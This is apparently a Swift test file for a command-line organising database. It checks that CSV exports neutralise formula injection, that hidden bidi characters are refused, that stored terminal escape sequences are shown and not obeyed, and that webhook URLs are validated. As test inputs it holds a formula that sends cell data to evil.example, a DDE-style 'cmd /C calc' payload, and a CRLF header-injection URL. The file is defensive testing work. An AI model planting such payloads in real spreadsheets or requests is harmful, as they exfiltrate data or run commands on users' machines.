import Foundation
import Testing

@Suite("Text and output, end to end: spreadsheets, hidden characters, mixed scripts, tampered databases, webhook URLs, calendars")
struct TextAndOutputTests {
    @Test("a CSV listing neutralises formulas, leaves numbers and phone numbers alone, and imports back to the same names")
    func csvFormulas() throws {
        let cli = try CommandLine.inProcess()
        defer { cli.cleanUp() }
        try cli.run("init")
        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Union\")", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "'=Quoted"]
        for (index, name) in hostile.enumerated() {
            // A name that begins with "-" is given as --name=VALUE, as a bare argument would be an option.
            let added = try cli.run("org", "add", "Placeholder \(index)", "--handle", "hostile-\(index)", "--members", "1200")
            let named = try cli.run("org", "edit", "hostile-\(index)", "--name=\(name)")
            #expect(added.status == 0 && named.status == 0, "\(added.stderr)\(named.stderr)")
        }
        #expect(try cli.run("person", "add", "Kim Min-jun", "--phone", "+82 10 5555 0199").status == 0)
        #expect(try cli.run("person", "add", "Ana Prueba", "--phone", "+1 (555) 123-4567").status == 0)
        let csv = try cli.run("org", "list", "--format", "csv").stdout
        for line in csv.components(separatedBy: "\r\n").dropFirst() where !line.isEmpty {
            let name = line.split(separator: ",", maxSplits: 1)[1].drop(while: { $0 == "\"" })
            #expect(!["=", "+", "-", "@"].contains(name.first), "\(line)")
        }
        #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""Union"")","#) && csv.contains(",''=Quoted,"))
        let people = try cli.run("person", "list", "--format", "csv").stdout
        #expect(people.contains(",+82 10 5555 0199,") && people.contains(",+1 (555) 123-4567,"))

        let file = cli.folder.appendingPathComponent("orgs.csv").path
        try csv.write(toFile: file, atomically: true, encoding: .utf8)
        let copy = cli.folder.appendingPathComponent("copy.sqlite").path
        try cli.run(["init"], database: copy)
        let imported = try cli.run(["import", "--csv", file, "--as", "organizations"], database: copy)
        #expect(imported.status == 0, "\(imported.stderr)")
        for (index, name) in hostile.enumerated() {
            let shown = try cli.run(["org", "show", "hostile-\(index)", "--format", "json"], database: copy)
            let object = try #require(try JSONSerialization.jsonObject(with: Data(shown.stdout.utf8)) as? [String: Any])
            #expect(object["name"] as? String == name)
        }
    }

    @Test("a name or acronym with a direction-changing or invisible character is refused, from flags, JSON and CSV alike; notes keep them")
    func hiddenCharacters() throws {
        let cli = try CommandLine.inProcess()
        defer { cli.cleanUp() }
        try cli.run("init")
        let before = try cli.dump()
        let flag = try cli.run("org", "add", "Frente \u{202E}TAF")
        #expect(flag.status == 64)
        #expect(flag.stderr.contains("U+202E RIGHT-TO-LEFT OVERRIDE at character 8") && !flag.stderr.contains("\u{202E}"))
        #expect(try cli.run("org", "add", "Frente", "--acronym", "F\u{200B}AT").stderr.contains("U+200B ZERO WIDTH SPACE"))
        let json = cli.folder.appendingPathComponent("bidi.json").path
        try #"{"format": "solidarity/1", "organizations": [{"handle": "fat", "name": "Frente \u2066TAF\u2069", "kind": "union"}]}"#
            .write(toFile: json, atomically: true, encoding: .utf8)
        let fromJSON = try cli.run("import", json)
        #expect(fromJSON.status == 64 && fromJSON.stderr.contains("$.organizations[0]") && fromJSON.stderr.contains("U+2066 LEFT-TO-RIGHT ISOLATE"))
        let csv = cli.folder.appendingPathComponent("bidi.csv").path
        try "name,acronym\nFrente,F\u{202D}AT\n".write(toFile: csv, atomically: true, encoding: .utf8)
        let fromCSV = try cli.run("import", "--csv", csv, "--as", "organizations")
        #expect(fromCSV.status == 64 && fromCSV.stderr.contains("line 2") && fromCSV.stderr.contains("U+202D LEFT-TO-RIGHT OVERRIDE"))
        #expect(try cli.dump() == before)
        #expect(try cli.run("org", "add", "کارگران ایران", "--handle", "kargaran", "--acronym", "می\u{200C}خواهم",
                            "--notes", "نام \u{200F}(RLM) and \u{202E}reversed").status == 0)
    }

    @Test("a word mixing scripts is recorded with a warning naming the letters; Japanese and Korean names are not warned about")
    func mixedScripts() throws {
        let cli = try CommandLine.inProcess()
        defer { cli.cleanUp() }
        try cli.run("init")
        let mixed = try cli.run("org", "add", "FАT Mexico", "--handle", "fat-mx")
        #expect(mixed.status == 0)
        #expect(mixed.stderr.contains(#"Warning: An organization's name "FАT Mexico" mixes scripts: U+0410 CYRILLIC CAPITAL LETTER A (Cyrillic) in a Latin word "FАT""#))
        for (name, handle) in [("日本労働組合総連合会（連合）", "rengo"), ("全日本自治団体労働組合 じちろう", "jichiro"), ("한국노동조합총연맹 韓國勞總", "fktu"), ("UAW連合 2024", "uaw-rengo")] {
            let added = try cli.run("org", "add", name, "--handle", handle)
            #expect(added.status == 0 && added.stderr.isEmpty, "\(name): \(added.stderr)")
        }
        let file = cli.folder.appendingPathComponent("mixed.json").path
        try #"{"format": "solidarity/1", "people": [{"handle": "ivan", "name": "Ivаn Petrov", "titles": []}]}"#
            .write(toFile: file, atomically: true, encoding: .utf8)
        let imported = try cli.run("import", file)
        #expect(imported.status == 0 && imported.stderr.contains("$.people[0]: A person's name \"Ivаn Petrov\" mixes scripts: U+0430 CYRILLIC SMALL LETTER A (Cyrillic)"))
    }

    @Test("escape sequences written into the database by other means are shown, not obeyed, in tables, records, Markdown and messages; JSON and CSV stay exact")
    func tamperedDatabase() throws {
        let cli = try CommandLine.inProcess()
        defer { cli.cleanUp() }
        try cli.run("init")
        #expect(try cli.run("org", "add", "Evil Union", "--handle", "evil", "--notes", "line one\nline two").status == 0)
        #expect(try cli.run("org", "add", "Evil Union", "--handle", "evil-two").status == 0)
        try cli.sqlite3("UPDATE organizations SET name = 'Evil Union ' || char(27) || '[2J' || char(155) || '31m' WHERE handle LIKE 'evil%';")
        let shown = #"Evil Union \u{1B}[2J\u{9B}31m"#
        for arguments in [["org", "list"], ["org", "show", "evil"], ["org", "list", "--format", "md"], ["org", "show", "Evil Union"], ["org", "remove", "evil-two", "--yes"]] {
            let result = try cli.run(arguments)
            let output = result.stdout + result.stderr
            // Markdown also escapes the "[" (MarkdownText), so that the name is read as text.
            let expected = arguments.contains("md") ? shown.replacingOccurrences(of: "[", with: #"\["#) : shown
            #expect(!output.contains("\u{1B}") && !output.contains("\u{9B}") && output.contains(expected), "\(arguments): \(output)")
        }
        #expect(try cli.run("org", "show", "evil").stdout.contains("line one\n"))
        let json = try cli.run("org", "list", "--format", "json").stdout
        let array = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
        #expect(array.first?["name"] as? String == "Evil Union \u{1B}[2J\u{9B}31m")
        #expect(try cli.run("org", "list", "--format", "csv").stdout.contains(",Evil Union \u{1B}[2J\u{9B}31m,"))
    }

    @Test("webhook add refuses a URL libcurl cannot use, saying what is wrong, and stores an uppercase scheme in lowercase")
    func webhookURLs() throws {
        let cli = try CommandLine.inProcess()
        defer { cli.cleanUp() }
        try cli.run("init")
        let before = try cli.dump()
        let refused: [(String, String)] = [
            ("https://example.org:99999/hook", "port 99999"), ("https://example.org:0/hook", "port 0"),
            ("https://example.org/a hook", "U+0020 SPACE at character 22"), ("https://example.org/hook\r\nX-Evil: 1", "U+000D"),
            ("https://example.org/\u{1}", "U+0001"), ("https://:443/hook", "no host"),
        ]
        for (url, reason) in refused {
            let result = try cli.run("webhook", "add", url, "--no-notify")
            #expect(result.status == 64 && result.stderr.contains(reason), "\(url.debugDescription): \(result.stderr)")
        }
        #expect(try cli.dump() == before)
        let added = try cli.run("webhook", "add", "HTTPS://example.org/Hook", "--no-notify")
        #expect(added.status == 0, "\(added.stderr)")
        #expect(try cli.run("webhook", "list", "--format", "csv").stdout.contains(",https://example.org/Hook,"))
    }

    @Test("an activity at the end of year 9999 is in the calendar with a DURATION, not a DTEND in year 10000")
    func calendarYear9999() throws {
        let cli = try CommandLine.inProcess()
        defer { cli.cleanUp() }
        try cli.run("init")
        #expect(try cli.run("activity", "log", "--kind", "meeting", "--title", "Last meeting", "--start", "9999-12-31").status == 0)
        #expect(try cli.run("activity", "log", "--kind", "meeting", "--title", "Last year", "--start", "9999").status == 0)
        let feed = try cli.run("calendar").stdout
        #expect(!feed.contains("DTEND;VALUE=DATE:1000"))
        #expect(feed.contains("DTSTART;VALUE=DATE:99991231\r\nDURATION:P1D\r\n") && feed.contains("DTSTART;VALUE=DATE:99990101\r\nDURATION:P365D\r\n"))
    }
}
